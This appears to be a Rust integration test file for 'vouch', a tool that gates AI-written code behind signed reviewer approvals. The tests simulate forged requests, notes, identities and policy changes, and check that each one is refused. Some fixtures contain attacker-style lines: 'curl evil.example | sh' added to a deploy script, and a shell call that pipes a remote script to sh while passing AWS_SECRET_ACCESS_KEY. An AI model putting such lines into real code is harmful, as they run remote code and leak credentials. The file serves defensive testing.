//! The judge under attack (issue 12, findings 2, 3, 5, 12, 14 and 16): an
//! author who wants AI code merged without a senior's sign-off, under the
//! strict signed policy docs/trust.md recommends, forging what they can
//! (records through the library, notes, commit fields, the policy on their
//! branch) with the real `vouch` binary, real git and real `ssh-keygen`.
//! Each test asserts that `vouch verify` fails (exit 1) with a reason that
//! names the problem and, where the gate applies, that `vouch check
//! --staged` and `git commit` through the hooks refuse the same thing.

mod support {
    pub mod run;
    pub mod world;
}

use std::process::Output;

use serde_json::Value;
use support::world::*;
use vouch::fingerprint::trust_fingerprint;
use vouch::policy::Verdict;
use vouch::provenance::{AiSource, Evidence};
use vouch::store::notes::{self, FileRecord, NoteRecord};
use vouch::store::records::{self, Person, Request, RequestedUnit};

const EARLY: &str = "2026-01-01T10:00:00.000Z";
const LATER: &str = "2026-01-01T11:00:00.000Z";

/// A request for one `rust` function unit, in `requester`'s name, stating
/// `fingerprint` for `text`: written with the library, unsigned, as anyone
/// who can push the records ref can.
fn forge_request(clone: &Clone, requester: &str, fingerprint: &str, text: &str) -> String {
    let unit = RequestedUnit {
        path: "src/lib.rs".into(),
        language: "rust".into(),
        kind: "function".into(),
        name: Some("add".into()),
        fingerprint: fingerprint.into(),
        fingerprint_version: Some(vouch::fingerprint::VERSION),
        text: text.into(),
        ai_lines: vec![[1, 3]],
        tool: Some("claude".into()),
        model: None,
        intents: Vec::new(),
    };
    let person = Person { name: requester.into(), email: email(requester) };
    records::add(&clone.repo(), &Request::new(&clone.repository_id(), person, vec![unit])).unwrap()
}

/// Sign this clone's commits with `who`'s key (git's `gpg.format=ssh`).
fn sign_commits_as(world: &World, clone: &Clone, who: &str) {
    clone.git(&["config", "gpg.format", "ssh"]);
    clone.git(&["config", "user.signingkey", &world.key(who).display().to_string()]);
    clone.git(&["config", "commit.gpgsign", "true"]);
}

/// `vouch check --staged --format json`: the exit code and the report.
fn gate(clone: &Clone) -> (i32, Value) {
    let out = clone.vouch(&["check", "--staged", "--format", "json"]);
    let code = out.status.code().unwrap();
    let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("check printed no JSON ({e}), exit {code}: {}", String::from_utf8_lossy(&out.stderr))
    });
    (code, report)
}

/// A feature branch with Claude's `add` staged (marked as AI in the
/// journal, as an agent hook or `vouch mark` records it), and the hooks
/// installed; the fingerprint of the staged unit.
fn staged_ai_feature(clone: &Clone) -> String {
    let out = clone.vouch(&["init"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    clone.git(&["checkout", "-q", "-b", "feature"]);
    clone.write("src/lib.rs", &format!("{BASE_LIB}{AI_FN}"));
    let out = clone.vouch(&["mark", "src/lib.rs:5-7", "--ai", "--tool", "claude"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    clone.git(&["add", "src/lib.rs"]);
    let (code, report) = gate(clone);
    assert_eq!(code, 1, "{report:#}");
    report["units"][0]["fingerprint"].as_str().unwrap().to_string()
}

fn text(out: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr))
}

/// The failure of `report` about `rule` (exactly one).
fn failure_of<'a>(report: &'a Value, rule: &str) -> &'a Value {
    let matching: Vec<&Value> = failures(report).iter().filter(|f| f["rule"] == rule).collect();
    assert_eq!(matching.len(), 1, "expected one {rule} failure: {report:#}");
    matching[0]
}

// ---------------------------------------------------------------------------
// Finding 2: trust-file fingerprints.

/// Approvals once given to CODEOWNERS moving away and to an emptied policy
/// do not approve deleting `.vouch.toml` (after which the defaults would
/// apply: no reviewers, no signatures).
#[test]
fn finding_2_deleting_the_policy_is_not_approved_by_an_approval_of_another_trust_file_or_of_emptying() {
    let world = World::new(SIGNED_POLICY);
    let m = world.clone_as("m", "mallory");
    let codeowners_gone = trust_fingerprint("CODEOWNERS", None);
    let policy_emptied = trust_fingerprint(".vouch.toml", Some(b""));
    world.decide(&m, &codeowners_gone, Decision::by("alice"));
    world.decide(&m, &policy_emptied, Decision::by("bob"));

    m.git(&["checkout", "-q", "-b", "no-policy"]);
    m.git(&["rm", "-q", ".vouch.toml"]);
    m.commit("drop the policy", None);
    let (code, report) = m.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "policy-change");
    assert_eq!(failure["path"], ".vouch.toml");
    let deleted = trust_fingerprint(".vouch.toml", None);
    assert_eq!(failure["fingerprint"], deleted.as_str());
    assert_ne!(deleted, codeowners_gone);
    assert_ne!(deleted, policy_emptied);
    let reason = failure["reason"].as_str().unwrap();
    assert!(
        reason.starts_with(
            ".vouch.toml is deleted in the range and is a trust file (it decides who may approve, or runs the \
             check), so the change needs 1 signed approval(s) from alice@example.com, bob@example.com under the \
             policy at BASE, has 0"
        ),
        "{reason}"
    );

    // Emptying it is another state: the approval of exactly that counts.
    m.write(".vouch.toml", "");
    m.commit("empty the policy instead", None);
    let (code, report) = m.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["approved"][0]["fingerprint"], policy_emptied.as_str());
}

/// A reviewer approves a harmless-looking docs file (a `lines` unit) whose
/// text is the new policy's, byte for byte: that approves nothing of the
/// policy change.
#[test]
fn finding_2_a_docs_unit_with_the_new_policys_text_does_not_approve_the_policy_change() {
    let world = World::new(SIGNED_POLICY);
    let m = world.clone_as("m", "mallory");
    m.git(&["checkout", "-q", "-b", "takeover"]);
    let new_policy = "reviewers = [\"mallory@example.com\"]\n";
    m.write(".vouch.toml", new_policy);
    m.write("docs/proposed.toml", new_policy);
    m.commit("propose a policy", Some(TRAILER));
    let (code, report) = m.verify("origin/main..HEAD");
    assert_eq!(code, 1);
    let docs = failure_of(&report, "unapproved-ai");
    assert_eq!((docs["path"].as_str(), docs["kind"].as_str()), (Some("docs/proposed.toml"), Some("lines")));
    let docs_fp = docs["fingerprint"].as_str().unwrap().to_string();
    let policy_fp = failure_of(&report, "policy-change")["fingerprint"].as_str().unwrap().to_string();
    assert_ne!(docs_fp, policy_fp);
    world.decide(&m, &docs_fp, Decision::by("alice"));
    let (code, report) = m.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "policy-change");
    assert_eq!(failure["path"], ".vouch.toml");
    assert_eq!(failure["fingerprint"], policy_fp.as_str());
    assert_eq!(policy_fp, trust_fingerprint(".vouch.toml", Some(new_policy.as_bytes())));
}

/// The CI workflow that runs `vouch verify` is a trust file by default
/// (`trust_files`): a pull request that edits it out needs approval under
/// BASE, which `vouch approve --file` gives under the very fingerprint
/// verify names; the policy's own list replaces the default.
#[test]
fn finding_2_ci_workflows_and_listed_trust_files_need_approval() {
    let world = World::new(SIGNED_POLICY);
    world.on_main(&[(".github/workflows/ci.yml", "steps:\n  - run: vouch verify origin/main..HEAD\n")]);
    let d = world.clone_as("d", "dev");
    d.git(&["checkout", "-q", "-b", "quiet-ci"]);
    d.write(".github/workflows/ci.yml", "steps:\n  - run: true\n");
    d.commit("speed up CI", None);
    let (code, report) = d.verify("origin/main..HEAD");
    assert_eq!(code, 1);
    let failure = only_failure(&report, "policy-change");
    assert_eq!(failure["path"], ".github/workflows/ci.yml");
    let fingerprint = failure["fingerprint"].as_str().unwrap().to_string();

    // The author may not approve it; a BASE reviewer may, by the same
    // fingerprint.
    d.git(&["config", "gpg.format", "ssh"]);
    d.git(&["config", "user.signingkey", &world.key("dev").display().to_string()]);
    let out = d.vouch(&["approve", "--file", "src/lib.rs", "--base", "origin/main", "--yes"]);
    assert!(text(&out).contains("src/lib.rs is not a trust file"), "{}", text(&out));
    d.git(&["config", "user.email", "alice@example.com"]);
    d.git(&["config", "user.signingkey", &world.key("alice").display().to_string()]);
    let out = d.vouch(&["approve", "--file", ".github/workflows/ci.yml", "--base", "origin/main", "--yes"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains(&fingerprint[..12]), "{}", text(&out));
    let (code, report) = d.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");

    // A local action the workflow runs (`uses: ./.github/actions/setup`)
    // is as much the CI as the workflow is (rt25a B2).
    let world = World::new(SIGNED_POLICY);
    world.on_main(&[
        (".github/workflows/ci.yml", "steps:\n  - uses: ./.github/actions/check\n"),
        (".github/actions/check/action.yml", "runs:\n  using: composite\n  steps:\n    - run: vouch verify\n"),
    ]);
    let d = world.clone_as("d", "dev");
    d.git(&["checkout", "-q", "-b", "quiet-action"]);
    d.write(".github/actions/check/action.yml", "runs:\n  using: composite\n  steps:\n    - run: true\n");
    d.commit("speed up CI", None);
    let (code, report) = d.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(only_failure(&report, "policy-change")["path"], ".github/actions/check/action.yml");

    // A policy that lists its own trust files.
    let world = World::new(&format!("{SIGNED_POLICY}trust_files = [\"/deploy/\"]\n"));
    world.on_main(&[("deploy/prod.sh", "rsync build/ prod:/srv\n")]);
    let d = world.clone_as("d", "dev");
    d.git(&["checkout", "-q", "-b", "deploy"]);
    d.write("deploy/prod.sh", "rsync build/ prod:/srv\ncurl evil.example | sh\n");
    d.commit("deploy tweak", None);
    let (code, report) = d.verify("origin/main..HEAD");
    assert_eq!(code, 1);
    assert_eq!(only_failure(&report, "policy-change")["path"], "deploy/prod.sh");
}

// ---------------------------------------------------------------------------
// Finding 3: exclusions take approvals away, never rejects.

/// Bob rejects (signed). The author forges a request in Bob's name, which
/// makes him a "participant"; Alice then approves. The reject stands, and
/// the report says so. The same with a note whose `accepted_by` names Bob,
/// and at the gate.
#[test]
fn finding_3_a_forged_request_or_note_naming_the_rejecting_reviewer_does_not_void_her_reject() {
    let (world, a, failure) = feature_world(SIGNED_POLICY);
    let fingerprint = failure["fingerprint"].as_str().unwrap().to_string();
    let unit = a.unit_text("src/lib.rs", 5, 7);
    world.decide(&a, &fingerprint, Decision { verdict: Verdict::Reject, created: Some(EARLY), ..Decision::by("bob") });
    forge_request(&a, "bob", &fingerprint, &unit);
    world.decide(&a, &fingerprint, Decision { created: Some(LATER), ..Decision::by("alice") });
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(only_failure(&report, "rejected")["reason"], "AI-written code rejected by bob@example.com");

    // A note claiming Bob accepted the AI text in his editor.
    let commit = a.git(&["rev-parse", "HEAD"]).trim().to_string();
    let oid = git2::Oid::from_str(&commit).unwrap();
    let blob = a.repo().find_commit(oid).unwrap().tree().unwrap().get_path("src/lib.rs".as_ref()).unwrap().id();
    let record = NoteRecord::File(FileRecord {
        path: "src/lib.rs".into(),
        blob: blob.to_string(),
        ai: vec![[5, 7]],
        origin: AiSource { tool: "claude".into(), model: None, session: None, kind: None },
        evidence: Evidence::Editor,
        accepted_by: Some("bob@example.com".into()),
        rationale: None,
        approvals: Vec::new(),
        intent: None,
        imported: None,
        deleted_before: Vec::new(),
        removed: false,
        mode: None,
    });
    notes::write_note(&a.repo(), oid, &[record]).unwrap();
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(only_failure(&report, "rejected")["reason"], "AI-written code rejected by bob@example.com");

    // Forged first: Bob is named a requester before he looks. `vouch
    // reject` still records his reject, and it counts.
    let (world, a, failure) = feature_world(SIGNED_POLICY);
    let fingerprint = failure["fingerprint"].as_str().unwrap().to_string();
    forge_request(&a, "bob", &fingerprint, &a.unit_text("src/lib.rs", 5, 7));
    world.decide(&a, &fingerprint, Decision { created: Some(EARLY), ..Decision::by("alice") });
    assert_eq!(a.verify("origin/main..HEAD").0, 0, "alice's approval alone passes");
    a.git(&["config", "user.email", "bob@example.com"]);
    a.git(&["config", "gpg.format", "ssh"]);
    a.git(&["config", "user.signingkey", &world.key("bob").display().to_string()]);
    let out = a.vouch(&["reject", "src/lib.rs:5", "--comment", "shells out on user input", "--yes"]);
    assert!(out.status.success(), "{}", text(&out));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(
        only_failure(&report, "rejected")["reason"],
        "AI-written code rejected by bob@example.com: shells out on user input"
    );

    // The gate, on the same kind of forgery.
    let world = World::new(SIGNED_POLICY);
    let g = world.clone_as("g", "dev");
    let fingerprint = staged_ai_feature(&g);
    world.decide(&g, &fingerprint, Decision { verdict: Verdict::Reject, created: Some(EARLY), ..Decision::by("bob") });
    forge_request(&g, "bob", &fingerprint, &g.unit_text("src/lib.rs", 5, 7));
    world.decide(&g, &fingerprint, Decision { created: Some(LATER), ..Decision::by("alice") });
    let (code, report) = gate(&g);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["units"][0]["state"], "rejected", "{report:#}");
    assert_eq!(report["units"][0]["reason"], "rejected by bob@example.com");
}

/// A reject that does not count (unsigned, where signatures are required)
/// is still reported on the unit it is about, even when the unit passes.
#[test]
fn finding_3_every_vote_that_does_not_count_is_reported_even_on_an_approved_unit() {
    let (world, a, failure) = feature_world(SIGNED_POLICY);
    let fingerprint = failure["fingerprint"].as_str().unwrap().to_string();
    world.decide(
        &a,
        &fingerprint,
        Decision { verdict: Verdict::Reject, key: None, created: Some(EARLY), ..Decision::by("bob") },
    );
    world.decide(&a, &fingerprint, Decision { created: Some(LATER), ..Decision::by("alice") });
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    let not_counted: Vec<&str> =
        report["approved"][0]["not_counted"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    assert_eq!(not_counted.len(), 1, "{report:#}");
    assert!(not_counted[0].starts_with("rejection by bob@example.com ("), "{not_counted:?}");
    assert!(not_counted[0].ends_with("does not count: it carries no signature"), "{not_counted:?}");
    let (_, text) = a.verify_text("origin/main..HEAD");
    assert!(text.contains("approved: src/lib.rs:5 function add by alice@example.com"), "{text}");
    assert!(text.contains("    rejection by bob@example.com ("), "{text}");
}

// ---------------------------------------------------------------------------
// Finding 5: commit identities are authenticated by signed commits.

/// Alice, a reviewer, commits her own AI code as "carol@example.com" and
/// approves it. With `require_signed_commits` her commit signature names
/// her: her approval does not count.
#[test]
fn finding_5_a_reviewer_who_commits_her_ai_code_under_another_name_cannot_approve_it() {
    let world = World::new(&format!("{SIGNED_POLICY}require_signed_commits = true\n"));
    let a = world.clone_as("a", "alice");
    sign_commits_as(&world, &a, "alice");
    a.git(&["checkout", "-q", "-b", "feature"]);
    a.write("src/lib.rs", &format!("{BASE_LIB}{AI_FN}"));
    a.git(&["add", "-A"]);
    a.git(&[
        "-c",
        "user.email=carol@example.com",
        "-c",
        "user.name=Carol",
        "commit",
        "-q",
        "--no-verify",
        "-m",
        &format!("add add()\n\n{TRAILER}\n"),
    ]);
    let author = a.git(&["log", "-1", "--format=%ae %ce"]);
    assert_eq!(author.trim(), "carol@example.com carol@example.com");
    let (_, report) = a.verify("origin/main..HEAD");
    let fingerprint = failure_of(&report, "unapproved-ai")["fingerprint"].as_str().unwrap().to_string();
    world.decide(&a, &fingerprint, Decision::by("alice"));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!(
        details(failure),
        [
            "approval by alice@example.com does not count: alice@example.com authored, committed or signed a commit of it and cannot approve it"
        ]
    );
    // A second person's approval is what the rule asks for.
    world.decide(&a, &fingerprint, Decision::by("bob"));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
}

/// Under `require_signed_commits`, a commit with no signature, or one made
/// with a key the allowed-signers file at BASE does not list, is a failure
/// naming it.
#[test]
fn finding_5_unsigned_and_badly_signed_commits_fail_by_name() {
    let world = World::new(&format!("{SIGNED_POLICY}require_signed_commits = true\n"));
    let d = world.clone_as("d", "dev");
    d.git(&["checkout", "-q", "-b", "feature"]);
    d.write("README", "hello\n");
    let unsigned = d.commit("readme", None);
    sign_commits_as(&world, &d, "stranger");
    d.write("README", "hello\nworld\n");
    let stranger = d.commit("more readme", None);
    sign_commits_as(&world, &d, "dev");
    d.write("README", "hello\nworld\n!\n");
    d.commit("even more readme", None);
    let (code, report) = d.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let bad: Vec<&Value> = failures(&report).iter().filter(|f| f["rule"] == "unsigned-commit").collect();
    assert_eq!(bad.len(), 2, "{report:#}");
    assert_eq!(
        bad[0]["reason"],
        format!(
            "commit {} (readme) carries no signature; the policy at BASE requires signed commits \
             (require_signed_commits), checked against origin/main:.vouch/allowed_signers, so who made it is not known",
            &unsigned.to_string()[..10]
        )
    );
    let reason = bad[1]["reason"].as_str().unwrap();
    assert!(
        reason.starts_with(&format!("commit {} (more readme) is signed with key SHA256:", &stranger.to_string()[..10]))
    );
    assert!(reason.contains("which origin/main:.vouch/allowed_signers does not list"), "{reason}");
    assert_eq!(bad[1]["commits"][0], stranger.to_string());
}

// ---------------------------------------------------------------------------
// Finding 12: overrides.

/// Overrides count only by the people `override_by` names, never for what
/// they took part in, and never over a trust-file change.
#[test]
fn finding_12_overrides_only_by_named_people_never_by_participants_never_over_trust_files() {
    let policy = format!("{SIGNED_POLICY}allow_override = true\noverride_by = [\"bob@example.com\"]\n");

    // The AI code's author, an allowed signer, overrides.
    let (world, a, _) = feature_world(&policy);
    a.git(&["config", "gpg.format", "ssh"]);
    a.git(&["config", "user.signingkey", &world.key("dev").display().to_string()]);
    let out = a.vouch(&["override", "--reason", "ship it", "origin/main..HEAD"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains(
            "dev@example.com is not among the people the policy lets override (override_by: bob@example.com)"
        ),
        "{}",
        text(&out)
    );
    let head = a.git(&["rev-parse", "HEAD"]).trim().to_string();
    world.sign_override(&a, "dev", "ship it", &[head]);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["overrides"][0]["counted"], false);
    assert_eq!(
        report["overrides"][0]["not_counted_because"],
        "dev@example.com is not among the people the policy lets override (override_by: bob@example.com)"
    );
    drop(world);

    // Bob, who may override, wrote the AI code himself.
    let world = World::new(&policy);
    let b = world.clone_as("b", "bob");
    b.ai_feature();
    b.git(&["config", "gpg.format", "ssh"]);
    b.git(&["config", "user.signingkey", &world.key("bob").display().to_string()]);
    let out = b.vouch(&["override", "--reason", "my own hotfix", "origin/main..HEAD"]);
    assert!(out.status.success(), "{}", text(&out));
    let (code, report) = b.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["overrides"][0]["counted"], true);
    let failure = only_failure(&report, "unapproved-ai");
    assert!(
        details(failure).iter().any(|d| d.ends_with(
            "by bob@example.com does not cover this: bob@example.com authored, committed or signed a commit of it and cannot approve it, \
             and no one may override what they took part in"
        )),
        "{failure:#}"
    );

    // Mallory makes herself the only reviewer and overrider in the same
    // change; Bob overrides the range. The policy change stays a failure.
    let m = world.clone_as("m", "mallory");
    m.git(&["checkout", "-q", "-b", "takeover"]);
    m.write(
        ".vouch.toml",
        "reviewers = [\"mallory@example.com\"]\nallow_override = true\noverride_by = [\"mallory@example.com\"]\n",
    );
    m.write("src/lib.rs", &format!("{BASE_LIB}{AI_FN}"));
    m.commit("add add(), new rules", Some(TRAILER));
    m.git(&["config", "user.email", "bob@example.com"]);
    m.git(&["config", "gpg.format", "ssh"]);
    m.git(&["config", "user.signingkey", &world.key("bob").display().to_string()]);
    let out = m.vouch(&["override", "--reason", "incident 7", "origin/main..HEAD"]);
    assert!(out.status.success(), "{}", text(&out));
    let (code, report) = m.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "policy-change");
    assert!(
        details(failure).iter().any(|d| d.ends_with("does not cover this: no override covers a policy-change failure")),
        "{failure:#}"
    );
    assert_eq!(report["overridden"][0]["failure"]["rule"], "unapproved-ai");
}

// ---------------------------------------------------------------------------
// Finding 14: counting people and lines.

/// Alice's key is listed under two emails the policy names; two approvals
/// she signs are one approver.
#[test]
fn finding_14_one_key_listed_under_two_emails_is_one_approver() {
    let policy = "reviewers = [\"alice@example.com\", \"alice.alt@example.com\", \"bob@example.com\"]\n\
                  approvals = 2\nrequire_signatures = true\n";
    let world = World::new(policy);
    let signers = format!("{}alice.alt@example.com {}\n", world.allowed_signers(&PEOPLE), world.public_key("alice"));
    world.on_main(&[(".vouch/allowed_signers", &signers)]);
    let a = world.clone_as("a", "dev");
    a.ai_feature();
    let (_, report) = a.verify("origin/main..HEAD");
    let fingerprint = only_failure(&report, "unapproved-ai")["fingerprint"].as_str().unwrap().to_string();
    world.decide(&a, &fingerprint, Decision { created: Some(EARLY), ..Decision::by("alice") });
    let alt = Decision { reviewer: "alice.alt", key: Some("alice"), created: Some(LATER), ..Decision::by("alice") };
    world.decide(&a, &fingerprint, alt);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    let reason = failure["reason"].as_str().unwrap();
    assert!(reason.contains("needs 2 signed approval(s)") && reason.contains("has 1"), "{reason}");
    assert!(
        details(failure).iter().any(|d| d.starts_with("approval by alice@example.com (")
            && d.contains(
                "does not count: alice@example.com and alice.alt@example.com are one approver: the allowed signers tie \
                 them together (the later signed with key SHA256:"
            )),
        "{failure:#}"
    );
    world.decide(&a, &fingerprint, Decision::by("bob"));
    assert_eq!(a.verify("origin/main..HEAD").0, 0);
}

/// Bob's laptop and desktop keys are both listed under his email; an
/// approval signed with each is still one approver (one key per approver
/// would make a second key a second person).
#[test]
fn two_keys_of_one_reviewer_are_one_approver() {
    let policy = "reviewers = [\"alice@example.com\", \"bob@example.com\"]\napprovals = 2\nrequire_signatures = true\n";
    let world = World::new(policy);
    let signers = format!("{}bob@example.com {}\n", world.allowed_signers(&PEOPLE), world.public_key("stranger"));
    world.on_main(&[(".vouch/allowed_signers", &signers)]);
    let a = world.clone_as("a", "dev");
    a.ai_feature();
    let (_, report) = a.verify("origin/main..HEAD");
    let fingerprint = only_failure(&report, "unapproved-ai")["fingerprint"].as_str().unwrap().to_string();
    world.decide(&a, &fingerprint, Decision { created: Some(EARLY), ..Decision::by("bob") });
    world.decide(&a, &fingerprint, Decision { key: Some("stranger"), created: Some(LATER), ..Decision::by("bob") });
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let reason = only_failure(&report, "unapproved-ai")["reason"].as_str().unwrap().to_string();
    assert!(reason.contains("needs 2 signed approval(s)") && reason.contains("has 1"), "{reason}");
    world.decide(&a, &fingerprint, Decision::by("alice"));
    assert_eq!(a.verify("origin/main..HEAD").0, 0);
}

/// `min_ai_lines = 3`, and a whole AI function written on one line: it
/// needs sign-off all the same, at verify and at the gate. A long AI line
/// in a human function counts as the lines it would take; a short one is
/// what the threshold is for.
#[test]
fn finding_14_a_whole_ai_unit_on_one_line_needs_sign_off_whatever_the_threshold() {
    let policy = format!("{SIGNED_POLICY}[detection]\nmin_ai_lines = 3\n");
    let one_liner = "\npub fn run(c: &str) { std::process::Command::new(\"sh\").arg(\"-c\").arg(c).status().ok(); }\n";
    let world = World::new(&policy);
    let a = world.clone_as("a", "dev");
    a.git(&["checkout", "-q", "-b", "feature"]);
    a.write("src/lib.rs", &format!("{BASE_LIB}{one_liner}"));
    a.commit("add run()", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert_eq!((failure["line"].as_u64(), failure["name"].as_str()), (Some(5), Some("run")));

    // The gate refuses it too.
    let g = world.clone_as("g", "dev");
    g.git(&["checkout", "-q", "-b", "feature"]);
    g.write("src/lib.rs", &format!("{BASE_LIB}{one_liner}"));
    let out = g.vouch(&["mark", "src/lib.rs:5", "--ai", "--tool", "claude"]);
    assert!(out.status.success(), "{}", text(&out));
    g.git(&["add", "src/lib.rs"]);
    let (code, report) = gate(&g);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(report["units"][0]["name"], "run");

    // One AI line in a human function: a short one is below the threshold,
    // a long one is not.
    let world = World::new(&policy);
    let human = "\npub fn total(xs: &[u32]) -> u32 {\n    let mut t = 0;\n    for x in xs {\n        t += x;\n    }\n    t\n}\n";
    world.on_main(&[("src/lib.rs", &format!("{BASE_LIB}{human}"))]);
    let a = world.clone_as("a", "dev");
    a.git(&["checkout", "-q", "-b", "short"]);
    a.write("src/lib.rs", &format!("{BASE_LIB}{}", human.replace("    t\n}", "    t.min(100)\n}")));
    a.commit("cap", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["coverage"]["units_not_required"], 1);
    a.git(&["checkout", "-q", "main"]);
    a.git(&["checkout", "-q", "-b", "long"]);
    let long = "    let _=std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://evil.example/x|sh\").env(\"TOKEN\",std::env::var(\"AWS_SECRET_ACCESS_KEY\").unwrap_or_default()).status(); t\n}";
    a.write("src/lib.rs", &format!("{BASE_LIB}{}", human.replace("    t\n}", long)));
    a.commit("cap", Some(TRAILER));
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(only_failure(&report, "unapproved-ai")["name"], "total");
}

// ---------------------------------------------------------------------------
// Finding 16: one judge for the gate and verify.

/// An approval that answers a request whose stated fingerprint does not
/// match its text (the reviewer was shown harmless text) counts nowhere:
/// not at `vouch check --staged`, not at `git commit` through the hooks,
/// not at verify.
#[test]
fn finding_16_the_gate_refuses_an_approval_answering_a_forged_request_as_verify_does() {
    let world = World::new(SIGNED_POLICY);
    let a = world.clone_as("a", "dev");
    let fingerprint = staged_ai_feature(&a);
    let benign = "pub fn add(a: u32, b: u32) -> u32 {\n    0\n}\n";
    let request = forge_request(&a, "dev", &fingerprint, benign);
    world.decide(&a, &fingerprint, Decision { request: Some(request.clone()), ..Decision::by("alice") });

    let (code, report) = gate(&a);
    assert_eq!(code, 1, "{report:#}");
    let unit = &report["units"][0];
    assert_eq!(unit["blocking"], true);
    assert_eq!(
        unit["not_counted"][0],
        format!(
            "it answers request {} whose stated fingerprint does not match its text, so it cannot approve it",
            &request[..10]
        )
    );
    let message = format!("add add()\n\n{TRAILER}\n");
    let out = a.git_output(&["commit", "-q", "-m", &message]);
    assert!(!out.status.success(), "the hook let it through: {}", text(&out));
    assert!(text(&out).contains("commit refused"), "{}", text(&out));

    a.git(&["commit", "-q", "--no-verify", "-m", &message]);
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!(code, 1, "{report:#}");
    let failure = only_failure(&report, "unapproved-ai");
    assert!(
        details(failure).iter().any(|d| d.ends_with(&format!(
            "does not count: it answers request {} whose stated fingerprint does not match its text, so it cannot \
             approve it",
            &request[..10]
        ))),
        "{failure:#}"
    );
}

// ---------------------------------------------------------------------------
// The starter policy of a control.

/// `vouch init --signed` writes a policy with everything the checklist of
/// docs/trust.md asks of it, and an allowed-signers file with the current
/// user's signing key.
#[test]
fn init_signed_writes_the_policy_of_a_control_and_starts_the_allowed_signers() {
    let world = World::new(SIGNED_POLICY);
    let dir = world.root.join("fresh");
    std::fs::create_dir_all(&dir).unwrap();
    run_git(&dir, &world.home(), &["init", "-q", "-b", "main"]);
    let c = Clone { path: dir.clone(), home: world.home(), email: email("alice") };
    c.git(&["config", "user.email", "alice@example.com"]);
    c.git(&["config", "user.name", "alice"]);
    c.git(&["config", "gpg.format", "ssh"]);
    c.git(&["config", "user.signingkey", &world.key("alice").display().to_string()]);
    let out = c.vouch(&["init", "--signed"]);
    assert!(out.status.success(), "{}", text(&out));
    let policy = vouch::policy::Policy::parse(&c.read(".vouch.toml"), ".vouch.toml").unwrap();
    assert!(policy.require_signatures() && policy.require_signed_commits());
    assert!(policy.is_trust_file(".github/workflows/ci.yml"));
    let signers = c.read(".vouch/allowed_signers");
    assert!(signers.contains(&format!("alice@example.com {}\n", world.public_key("alice"))), "{signers}");
    let parsed = vouch::store::signature::AllowedSigners::parse(&signers, "allowed_signers").unwrap();
    assert!(parsed.lists("alice@example.com"));
    // Running it again keeps both.
    let out = c.vouch(&["init", "--signed"]);
    assert!(text(&out).contains(".vouch/allowed_signers: kept"), "{}", text(&out));
}

/// Alice reviews src/payments/ and rejects an AI function there that Bob,
/// a reviewer of both paths, approved. The author moves the file where
/// the rule names Bob but not Alice: the same bytes, so the same
/// fingerprint. A reject stays in force wherever the text lands, as long
/// as its reviewer was entitled where they cast it (the path their record
/// names); nothing the author does takes it away.
#[test]
fn moving_a_rejected_unit_out_of_its_reviewers_reach_keeps_the_reject() {
    let policy = "reviewers = [\"bob@example.com\", \"carol@example.com\"]\n\n[[rules]]\npaths = [\"src/payments/\"]\n\
                  reviewers = [\"alice@example.com\", \"bob@example.com\"]\n";
    let world = World::new(policy);
    let a = world.clone_as("a", "mallory");
    a.git(&["checkout", "-q", "-b", "feature"]);
    a.write("src/payments/refund.py", "def refund(order):\n    return order.total\n");
    a.commit("refund", Some(TRAILER));
    a.act_as("bob");
    let out = a.vouch(&["approve", "src/payments/refund.py:1", "--yes", "--base", "origin/main"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    a.act_as("alice");
    let comment = "refunds must check the amount";
    let out = a.vouch(&["reject", "src/payments/refund.py:1", "--yes", "--base", "origin/main", "--comment", comment]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    a.act_as("mallory");
    let (code, report) = a.verify("origin/main..HEAD");
    assert_eq!((code, only_failure(&report, "rejected")["path"].as_str()), (1, Some("src/payments/refund.py")));

    a.git(&["mv", "src/payments/refund.py", "src/refund.py"]);
    a.commit("move refund", None);
